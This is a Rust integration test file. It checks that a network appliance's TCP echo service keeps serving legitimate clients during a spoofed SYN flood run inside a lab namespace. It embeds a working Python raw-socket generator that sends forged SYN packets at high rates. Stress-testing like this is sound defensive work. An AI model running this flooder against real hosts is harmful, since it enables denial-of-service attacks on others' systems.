//! A spoofed SYN flood from the peer namespace (raw IPv4 SYNs from addresses that never
//! answer, tens of thousands a second, sent by a small Python raw-socket sender) against
//! the appliance's TCP echo service on AF_XDP, while kernel clients keep connecting:
//! legitimate clients must keep at least 90% success, and the appliance must have evicted
//! half-open handshakes (its backlog is bounded; the flood cannot lock the listener).
#![allow(clippy::unwrap_used)]

mod common;

use std::io::{Read, Write};
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use common::*;

/// Sends pre-built SYNs (sources 198.18.0.0/15, no route back) to DST:PORT for SECS
/// seconds; prints how many it sent.
const FLOODER: &str = r#"
import socket, struct, sys, time, random
dst, port, secs = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
def csum(b):
    if len(b) % 2: b += b'\0'
    t = sum(struct.unpack('!%dH' % (len(b) // 2), b))
    while t >> 16: t = (t & 0xffff) + (t >> 16)
    return ~t & 0xffff
rnd = random.Random(7)
pkts = []
for i in range(4000):
    src = socket.inet_aton('198.18.%d.%d' % (i // 250, i % 250 + 1))
    d = socket.inet_aton(dst)
    tcp = struct.pack('!HHIIBBHHH', 1024 + i, port, rnd.getrandbits(32), 0, 5 << 4, 0x02, 64240, 0, 0)
    c = csum(src + d + struct.pack('!BBH', 0, 6, len(tcp)) + tcp)
    tcp = tcp[:16] + struct.pack('!H', c) + tcp[18:]
    ip = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + len(tcp), i, 0, 64, 6, 0, src, d)
    pkts.append(ip + tcp)
n, end = 0, time.time() + secs
while time.time() < end:
    for p in pkts:
        try:
            s.sendto(p, (dst, 0)); n += 1
        except OSError:
            pass
print(n)
"#;

#[test]
fn legitimate_clients_get_through_a_spoofed_syn_flood() {
    let g = LabGuard::new(false);
    let running = start_appliance(&g.lab, |_, _| {});
    let echo = sa(g.lab.stack4(), 7);
    // The service answers before the flood.
    assert_eq!(tcp_echo(&g.lab.peer_ns, echo, b"up".to_vec()), b"up");

    let secs = 6.0;
    let flooder = Command::new("ip")
        .args(["netns", "exec", &g.lab.peer_ns, "python3", "-c", FLOODER])
        .arg(g.lab.stack4().to_string())
        .args(["7", &secs.to_string()])
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    std::thread::sleep(Duration::from_millis(500));
    let started = Instant::now();
    let (mut ok, mut tries) = (0u32, 0u32);
    while started.elapsed() < Duration::from_secs_f64(secs - 1.5) {
        tries += 1;
        let good = in_ns(&g.lab.peer_ns, move || {
            let Ok(mut s) = std::net::TcpStream::connect_timeout(&echo, Duration::from_secs(2))
            else {
                return false;
            };
            s.set_read_timeout(Some(Duration::from_secs(2))).unwrap();
            let mut b = [0u8; 5];
            s.write_all(b"hello").is_ok() && s.read_exact(&mut b).is_ok() && &b == b"hello"
        });
        ok += u32::from(good);
        std::thread::sleep(Duration::from_millis(50));
    }
    let out = flooder.wait_with_output().unwrap();
    assert!(
        out.status.success(),
        "flooder: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    let sent: f64 = String::from_utf8_lossy(&out.stdout).trim().parse().unwrap();
    let rate = sent / secs;
    let stats = running.stop().unwrap();
    let evicted: u64 = stats.iter().map(|s| s.steer.syn_evicted).sum();
    println!("flood: {rate:.0} SYN/s; legitimate: {ok}/{tries}; half-open evicted: {evicted}");
    assert!(
        rate >= 10_000.0,
        "the flood was too weak to prove anything: {rate:.0}/s"
    );
    assert!(
        evicted > 1000,
        "the flood did not reach the listener: {evicted} evictions"
    );
    assert!(tries >= 10, "{tries}");
    assert!(
        f64::from(ok) >= 0.9 * f64::from(tries),
        "legitimate clients: {ok}/{tries} during {rate:.0} SYN/s"
    );
}
